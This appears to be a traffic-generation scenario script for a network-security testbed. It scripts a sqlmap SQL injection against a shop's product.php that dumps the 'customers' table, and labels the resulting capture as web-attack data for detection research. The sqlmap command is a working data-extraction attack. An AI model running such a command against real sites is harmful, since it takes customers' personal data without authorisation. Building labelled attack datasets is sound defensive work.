# 198.51.100.66 finds an injection in product.php with sqlmap, over HTTP, and takes the customers' table.
topology=web
file=web-sqlmap.pcap.gz
class=web_attack
family=sqlmap
rule="SRC:198.51.100.66:web_attack;CONN:10.30.0.21:8081:web_attack;CONN:10.30.0.22:8081:web_attack"
tools=(sqlmap:sqlmap)

play() {
  visitors 150
  sleep 20
  inside attacker sqlmap --batch --random-agent --flush-session --threads 2 --level 1 --risk 1 \
    --dump -D shop -T customers -u "http://$shop/product.php?id=1" >"$work/sqlmap.log" 2>&1 || true
  grep -q difference "$work/sqlmap.log" || echo "testbed: sqlmap took nothing, see the capture" >&2
  sleep 20
}
